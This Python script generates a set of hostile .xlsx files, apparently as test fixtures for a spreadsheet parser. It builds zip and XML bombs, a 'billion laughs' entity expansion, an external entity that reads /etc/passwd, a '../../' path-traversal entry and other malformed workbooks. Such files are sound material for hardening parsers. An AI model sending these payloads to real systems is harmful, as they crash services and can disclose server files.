"""Writes workbooks that are made to harm whoever reads them into a folder.

Usage: hostile_workbooks.py FOLDER
"""
import pathlib
import sys
import zipfile

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = "xl/worksheets/sheet1.xml"
NAMES = "Programme Agreements Transfers Structures Engagement Events Accountability Narrative"
SHEETS = "".join(f'<sheet name="{name}" sheetId="1" r:id="d1"/>' for name in NAMES.split())
ROW = "<row><c><v>1</v></c></row>"


def parts(rows=ROW, texts="", sheets=SHEETS, arrows="", styles="", after="", declares=""):
    """The parts of a workbook of one sheet."""
    arrow = f'<Relationship Id="d%d" Type="{OFFICE}/%s" Target="%s"/>'
    found = {
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}">'
        + arrow % (1, "officeDocument", "xl/workbook.xml") + "</Relationships>",
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}">'
        f"<sheets>{sheets}</sheets></workbook>",
        SHEET: f'{declares}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData>{after}</worksheet>',
        "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">{texts}</sst>',
        "xl/styles.xml": f'<styleSheet xmlns="{MAIN}">{styles}</styleSheet>',
    }
    found["xl/_rels/workbook.xml.rels"] = (
        f'<Relationships xmlns="{PACKAGE}">' + arrow % (1, "worksheet", "worksheets/sheet1.xml")
        + arrow % (2, "sharedStrings", "sharedStrings.xml") + arrow % (3, "styles", "styles.xml")
        + arrows + "</Relationships>"
    )
    return found


LAUGHS = "<!DOCTYPE w [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {name} '{f'&{before};' * 10}'>" for before, name in zip("abcdefgh", "bcdefghi")
) + "]>"

WORKBOOKS = {
    "blank bomb": parts() | {"xl/media/blank": " " * (300 << 20)},
    "ratio bomb": parts(rows=" " * (20 << 20)),
    "many parts": parts() | {f"more/{index}": "" for index in range(100_000)},
    "shared texts": parts(texts="<si/>" * 1_500_000 + "".join(map(str, range(300_000)))),
    "formats": parts(styles="<cellXfs>" + "".join(
        f'<xf numFmtId="{index}"/>' for index in range(200_000)) + "</cellXfs>"),
    "sheets": parts(sheets="".join(
        f'<sheet name="n{index}" r:id="d1"/>' for index in range(200_000))),
    "arrows": parts(arrows="".join(
        f'<Relationship Id="x{index}" Type="t" Target="a{index}"/>' for index in range(300_000))),
    "long name": parts(sheets=f'<sheet name="Programme{" " * 100_000}" r:id="d1"/>'),
    "merged": parts(rows="", after="<mergeCells>" + "".join(
        f'<mergeCell ref="A{index}:B{index}"/>' for index in range(1, 1_000_000)) + "<x></y>"),
    "laughs": parts(rows="<row><c t='str'><v>&i;</v></c></row>", declares=LAUGHS),
    "outside": parts(
        rows="<row><c t='str'><v>&x;</v></c></row>",
        declares="<!DOCTYPE w [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"),
    "attributes": parts(rows="<row " + " ".join(f'a{i}="{i}"' for i in range(200_000)) + "/>"),
    "deep": parts(rows="<x>" * 100_000),
    "comment": parts(rows="<!--" + "".join(map(str, range(600_000))) + "-->"),
    "twice": parts(rows=ROW + '<row r="1"/>'),
    "up": parts() | {"../../up.xml": "<x/>", SHEET: "<x/>"},
    "text": parts(rows="<row><c t='str'><v>" + "ab" * (1 << 20) + "</v></c></row>"),
}


def write(folder):
    """Writes all of them into a folder."""
    for name, book in WORKBOOKS.items():
        with zipfile.ZipFile(folder / f"{name}.xlsx", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
            for path, text in book.items():
                file.writestr(path, text)
    (folder / "empty.xlsx").write_bytes(b"")
    (folder / "page.xlsx").write_text("<html><table/></html>")
    with open(folder / "sparse.xlsx", "wb") as file:
        file.write(b"PK\x03\x04")
        file.truncate(1 << 30)


if __name__ == "__main__":
    write(pathlib.Path(sys.argv[1]))
